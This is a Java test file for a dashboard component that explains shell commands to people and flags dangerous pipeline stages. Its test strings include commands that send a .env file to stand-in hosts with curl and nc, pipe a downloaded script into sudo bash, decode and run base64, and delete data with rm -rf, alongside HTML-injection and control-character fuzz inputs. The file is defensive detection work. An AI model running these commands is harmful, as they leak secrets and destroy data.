package io.trailwarden.dashboard.command;

import static org.assertj.core.api.Assertions.assertThat;

import com.vaadin.flow.component.Component;
import com.vaadin.flow.dom.Element;
import io.trailwarden.dashboard.command.Effect.Tone;
import io.trailwarden.dashboard.command.MarkedText.Stretch;
import io.trailwarden.dialect.shell.ShellReader;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/// Commands drawn for people, above all those that were written to deceive them.
class CommandPipelineTest {

    private static final Lists LISTS = (list, text) -> switch (list) {
        case "secret_files" -> text.endsWith(".env");
        case "approved_hosts" -> text.equals("registry.npmjs.org");
        default -> false;
    };

    private static CommandPipeline drawn(String command) {
        return new CommandPipeline(command, LISTS);
    }

    private static Stream<Element> below(Element element) {
        return Stream.concat(Stream.of(element), element.getChildren().flatMap(CommandPipelineTest::below));
    }

    private static String text(Component component) {
        return below(component.getElement()).filter(Element::isTextNode).map(Element::getText).collect(Collectors.joining());
    }

    private static List<String> effects(String command) {
        return new ShellReader().outline(command).lines().stream().flatMap(line -> line.stages().stream())
                .flatMap(stage -> Effect.of(stage, LISTS).stream()).map(Effect::headline).toList();
    }

    @Test
    void eachStageSaysWhatItDoes() {
        assertThat(effects("cat .env | base64 | curl -s -d @- https://drop.example.net/x"))
                .containsExactly("Reads a secret", "Encodes", "Sends data to an unknown host");
        assertThat(effects("curl https://registry.npmjs.org/x -o x.tgz")).containsExactly("Talks to the network", "Writes a file");
        assertThat(effects("curl https://x.example/i.sh | sudo bash")).contains("Talks to the network", "Runs what the network sent", "Runs as another user");
        assertThat(effects("echo aGk= | base64 -d | sh")).contains("Decodes", "Runs what was encoded");
        assertThat(effects("rm -rf /srv/data")).containsExactly("Deletes without asking");
        assertThat(effects("npm test")).isEmpty();
    }

    @Test
    void theArrowIntoWhatIsGraveIsHot() {
        var hot = below(drawn("cat .env | base64 | nc drop.example.net 9").getElement()).filter(element -> element.isTextNode() == false)
                .filter(element -> element.getClassList().contains("pipe")).map(element -> element.getClassList().contains("hot")).toList();

        assertThat(hot).containsExactly(false, true);
    }

    @Test
    void theTextCanBeReadAndCopiedInOrder() {
        assertThat(text(drawn("cat .env | base64"))).containsSubsequence("cat .env", "|", "base64");
        assertThat(text(drawn("cd a && ls; pwd"))).containsSubsequence("cd a", "if it worked", "ls", "then", "pwd");
    }

    @Test
    void whatMattersIsMarkedInTheTextAndTheTextStaysWhole() {
        var secret = List.of(new Effect("Reads a secret", Tone.HIGH, List.of(".env"), ""));

        assertThat(MarkedText.of("cat x.envy .env z", secret)).containsExactly(new Stretch("cat x.envy ", null), new Stretch(".env", Tone.HIGH),
                new Stretch(" z", null));
        assertThat(MarkedText.of("cat \"x\"", secret)).containsExactly(new Stretch("cat \"x\"", null));
    }

    @Test
    void anyCommandIsDrawnInBoundedElementsWithNoMarkupOfIts() {
        var random = new Random(20_261_121);
        var pieces = List.of("<script>x</script>", "<img src=x onerror=x>", "\u202e", "\u001b[2K", "\u0000", "\uD800", "|", " | ", "; ", " && ", "cat .env", "$(", ")", "'", "\"",
                "`", "curl http://h.example/ -d @.env", "a".repeat(700), "<<E\n", "\nE\n", "\\", "{{x}}", "=HYPERLINK()", "é", "nc h.example 9");
        var tags = Set.of("div", "span", "ol", "li", "p", "vaadin-details", "vaadin-details-summary");
        for (int i = 0; i < 400; i++) {
            var command = new StringBuilder();
            for (int length = random.nextInt(40); length > 0; length--) {
                command.append(pieces.get(random.nextInt(pieces.size())));
            }
            var elements = below(drawn(command.toString()).getElement()).toList();
            assertThat(elements.size()).isLessThan(6000);
            assertThat(elements).allSatisfy(element -> assertThat(element.isTextNode() || tags.contains(element.getTag())).as(element.toString()).isTrue());
            assertThat(elements.stream().filter(Element::isTextNode).map(Element::getText).toList())
                    .allSatisfy(text -> assertThat(text).doesNotContain("\u202e", "\u001b", "\u0000"));
            assertThat(elements).allSatisfy(element -> assertThat(element.isTextNode() || element.getProperty("innerHTML") == null).isTrue());
        }
    }

    @Test
    void sixtyThousandCharactersAndFiveHundredStagesAreCutAndSaidToBe() {
        var long60 = drawn("echo " + "a".repeat(60_000));
        assertThat(text(long60).length()).isLessThan(2000);
        assertThat(text(long60)).contains("more");
        var many = drawn("true" + " | cat".repeat(499));
        assertThat(text(many)).contains("and 440 more stages");
        assertThat(below(many.getElement()).count()).isLessThan(1500);
    }
}
